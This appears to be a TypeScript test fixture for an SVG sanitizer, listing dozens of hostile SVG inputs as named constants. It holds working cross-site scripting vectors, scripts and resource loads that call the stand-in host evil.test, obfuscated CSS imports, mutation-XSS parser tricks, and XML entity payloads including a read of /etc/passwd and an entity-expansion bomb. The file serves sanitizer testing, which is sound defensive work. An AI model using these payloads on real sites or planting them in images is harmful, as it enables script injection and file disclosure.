/**
 * Vector images that run, load or lead elsewhere: one for each technique of the public collections (the test cases of HTML
 * sanitizers, the HTML5 security cheat sheet, lists of OWASP), written anew. `JS` stands for a script and `URL` for an
 * address, both of which ask another host.
 */
export const HOST = 'evil.test'
const JS = `location='http://${HOST}/ran'`
const URL = `http://${HOST}/x`
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'

const inside = (inner: string, more = '') =>
  `<svg ${NS} ${more} width="20" height="20">${inner.replaceAll('JS', JS).replaceAll('URL', URL)}<rect width="9" height="9"/></svg>`
const whole = (text: string) => text.replaceAll('NS', NS).replaceAll('JS', JS).replaceAll('URL', URL)
const base64 = (text: string) => Buffer.from(whole(text)).toString('base64')
const INNER = `<svg NS id="x" onload="JS"><script>JS</script></svg>`

/** Each runs or loads in a current browser if nobody cleans it, which shows that the test would notice. */
export const EFFECTIVE: Readonly<Record<string, string>> = {
  script: inside('<script>JS</script>'),
  'script of another file': inside('<script href="URL.js"/>'),
  'script with a prefix': inside('<s:script>JS</s:script>', 'xmlns:s="http://www.w3.org/2000/svg"'),
  'script of a page': inside('<h:script>JS</h:script>', XHTML),
  'script in CDATA': inside('<script><![CDATA[JS]]></script>'),
  'handler of the root': inside('', `onload="JS"`.replace('JS', JS)),
  'handler written with entities': inside('', `onload="${JS.replace('location', '&#108;oc&#x61;tion')}"`),
  'handler of a failing image': inside('<image href="data:," onerror="JS"/>'),
  'handler of an animation': inside('<animate attributeName="x" dur="1s" onbegin="JS"/>'),
  'page in a foreignObject': inside(`<foreignObject><h:iframe src="javascript:parent.JS"/></foreignObject>`, XHTML),
  'image of another host': inside('<image href="URL" width="9" height="9"/>'),
  'image by xlink': inside('<image xlink:href="URL" width="9" height="9"/>'),
  'image whose address changes': inside('<image width="9" height="9"><set attributeName="href" to="URL"/></image>'),
  'feImage of another host': inside(
    '<filter id="f"><feImage href="URL"/></filter><g filter="url(#f)"><rect width="9" height="9"/></g>',
  ),
  'style that imports': inside('<style>@import "URL";</style>'),
  'style that imports, in CDATA': inside('<style><![CDATA[@import url(URL);]]></style>'),
  'style that imports, with escapes': inside('<style>@\\69mport "URL";</style>'),
  'style of a background': inside('', `style="background:url(${URL})"`),
  'style hidden between strings that look like comments': inside(
    '<style>svg{--a:"/*";background:url(URL);--b:"*/"}</style>',
  ),
  'style in two pieces': inside('<style>svg{background:u<!-- -->rl(URL)}</style>'),
  'style around an element': inside('<style>svg{background:u<g/>rl(URL)}</style>'),
  'style with an image-set': inside(`<style>svg{background:image-set("URL" 1x)}</style>`),
  'font of another host': inside(
    '<style>@font-face{font-family:f;src:url(URL)}text{font-family:f}</style><text y="9">a</text>',
  ),
  'style sheet of the document': whole('<?xml-stylesheet href="URL"?><svg NS width="9" height="9"/>'),
  'attributes of the document type': whole(
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "JS">]><svg NS width="9" height="9"/>`,
  ),
  'entity declared twice': whole(
    '<!DOCTYPE svg [<!ENTITY a "URL"><!ENTITY a "#a">]><svg NS width="9" height="9"><image href="&a;" width="9" height="9"/></svg>',
  ),
  'entity declared in a comment again': whole(
    '<!DOCTYPE svg [<!ENTITY a "URL"><!-- <!ENTITY a "#a"> -->]><svg NS width="9" height="9"><image href="&a;" width="9" height="9"/></svg>',
  ),
  'image in a page': inside('<h:img src="URL"/>', XHTML),
  'meta refresh': inside('<h:meta http-equiv="refresh" content="0;url=URL"/>', XHTML),
  'style sheet of a page': inside('<h:link rel="stylesheet" href="URL"/>', XHTML),
  'video of a page': inside('<h:video src="URL"/>', XHTML),
  'object of a page': inside('<foreignObject><h:object data="URL"/></foreignObject>', XHTML),
}

/** What ran in older or other browsers, needs a click, or only does harm as a part of a page. */
const OTHERS: Readonly<Record<string, string>> = {
  'script in capitals': inside('<SCRIPT>JS</SCRIPT>'),
  'handler in capitals': inside('<g ONLOAD="JS"/>'),
  'handler element': inside('<handler type="text/ecmascript">JS</handler>'),
  'listener of events': inside(
    '<e:listener event="load" handler="#h"/>',
    'xmlns:e="http://www.w3.org/2001/xml-events"',
  ),
  'link that runs': inside('<a href="javascript:JS"><rect width="20" height="20"/></a>'),
  'link that runs, by xlink': inside('<a xlink:href="javascript:JS"><rect width="20" height="20"/></a>'),
  'link that runs, with entities': inside(
    '<a href="&#106;ava&#9;scr&#10;ipt&colon;JS"><rect width="9" height="9"/></a>',
  ),
  'link that runs, with control characters': inside('<a href="java&#9;script&#58;JS"><rect width="9" height="9"/></a>'),
  'link that runs, in capitals': inside('<a href="  JaVaScRiPt:JS"><rect width="9" height="9"/></a>'),
  'link that runs, under another prefix': inside(
    '<a y:href="javascript:JS"><rect width="9" height="9"/></a>',
    'xmlns:y="http://www.w3.org/1999/xlink"',
  ),
  'link that runs only in a page': whole(
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://other"><a xlink:href="javascript:JS"><text y="9">a</text></a></svg>',
  ),
  'link to data': inside(
    `<a href="data:text/html;base64,${base64('<script>JS</script>')}"><rect width="9" height="9"/></a>`,
  ),
  'link whose address changes': inside(
    '<a><animate attributeName="href" values="javascript:JS"/><rect width="9" height="9"/></a>',
  ),
  'link whose address is set': inside(
    '<a id="l"><rect width="9" height="9"/></a><set href="#l" attributeName="xlink:href" to="javascript:JS"/>',
  ),
  'handler that is set': inside('<g><set attributeName="onclick" to="JS"/><rect width="9" height="9"/></g>'),
  'use of another host': inside('<use href="URL#x"/>'),
  'use of data': inside(`<use href="data:image/svg+xml;base64,${base64(INNER)}#x"/>`),
  'image of data that is an SVG': inside(`<image href="data:image/svg+xml;base64,${base64(INNER)}"/>`),
  'embedded file': inside('<embed src="URL"/><object data="URL"/><iframe src="URL"/>'),
  'page that is written in an attribute': inside(
    '<x xmlns="http://other"><p/><iframe srcdoc="&lt;script&gt;parent.JS&lt;/script&gt;"/></x>',
  ),
  'image of no namespace': inside('<x xmlns=""><img src="URL" onerror="JS"/></x>'),
  'image with several sources': inside('<image srcset="URL 1x" width="9"/><title><image srcset="URL 1x"/></title>'),
  'cursor of another host': inside('<g style="cursor:url(URL),auto"/><cursor href="URL"/>'),
  'mask, filter and marker of another host': inside(
    '<path d="M0 0L9 9" mask="url(URL#m)" filter="url(URL#f)" marker-end="url(URL#e)"/>',
  ),
  'fill that changes': inside(
    '<rect width="9" height="9"><animate attributeName="fill" values="url(URL#a);url(URL#b)"/></rect>',
  ),
  'style with an expression': inside(`<g style="width:expression(JS)"/>`),
  'style with a binding': inside('<style>*{-moz-binding:url(URL#x);behavior:url(URL)}</style>'),
  'base of addresses': inside('<g xml:base="http://evil.test/"><image href="x.png" width="9" height="9"/></g>'),
  'processing instruction of a program': whole('<?php JS ?><svg NS/>'),
  transformation: whole(`<?xml-stylesheet type="text/xsl" href="URL"?><svg NS/>`),
  'comment that ends early in a page': inside('<!--><img src="URL" onerror="JS">-->'),
  'comment around the end of a style': inside('<desc><style><!--</style><img src="URL">--></style></desc>'),
  'CDATA that ends early in a page': inside('<title><![CDATA[><img src="URL" onerror="JS">]]></title>'),
  'document type that ends early in a page': whole('<!DOCTYPE svg SYSTEM "><img src=URL>"><svg NS/>'),
  'style without an end in a page': inside(
    '<title><style/></title><text>x{} *{background:url(URL)}</text><style></style>',
  ),
  'font that leaves the image in a page': inside('<font color="red"><image srcset="URL"/><style>x</style></font>'),
  'attribute that hides an end tag': inside('<title><g class="&lt;/title&gt;&lt;img src=URL onerror=JS&gt;"/></title>'),
  formula: inside(
    '<m:math href="javascript:JS"><m:mtext><h:img src="URL"/></m:mtext></m:math>',
    `xmlns:m="http://www.w3.org/1998/Math/MathML" ${XHTML}`,
  ),
  'formula without a prefix': inside(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><img src="URL"/></annotation-xml></math>',
  ),
  form: inside('<h:form action="javascript:JS"><h:button autofocus="" onfocus="JS"/></h:form>', XHTML),
  'ping of a link': inside('<a href="#x" ping="URL" attributionsrc="URL"><rect width="9" height="9"/></a>'),
}

/** Must not become an image at all: nobody can say how somebody else would read them. */
export const REFUSED: Readonly<Record<string, string | Buffer>> = {
  'entities that grow': whole('<!DOCTYPE svg [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;">]><svg NS>&b;</svg>'),
  'entity of another file': whole('<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg NS>&a;</svg>'),
  'parameter entity': whole('<!DOCTYPE svg [<!ENTITY % p SYSTEM "URL"> %p;]><svg NS>&a;</svg>'),
  'UTF-7': whole('<?xml version="1.0" encoding="UTF-7"?><svg NS>+ADw-script+AD4-JS+ADw-/script+AD4-</svg>'),
  'an encoding with shifts': whole('<?xml version="1.0" encoding="ISO-2022-JP"?><svg NS/>'),
  'UTF-16': Buffer.from(whole('\uFEFF<svg NS><script>JS</script></svg>'), 'utf16le'),
  'bytes that are not UTF-8': Buffer.concat([
    Buffer.from(whole('<svg NS>')),
    Buffer.from([0xff]),
    Buffer.from('</svg>'),
  ]),
  'NUL bytes': whole('<svg NS><scr\u0000ipt>JS</scr\u0000ipt></svg>'),
  'attributes without quotes': '<svg onload=alert(1)></svg>',
  'elements without an end': whole('<svg NS><script>JS'),
  'two roots': whole('<svg NS/><script>JS</script>'),
  'a prefix of nothing': whole('<svg NS><x:script>JS</x:script></svg>'),
}

export const HOSTILE: Readonly<Record<string, string>> = { ...EFFECTIVE, ...OTHERS }
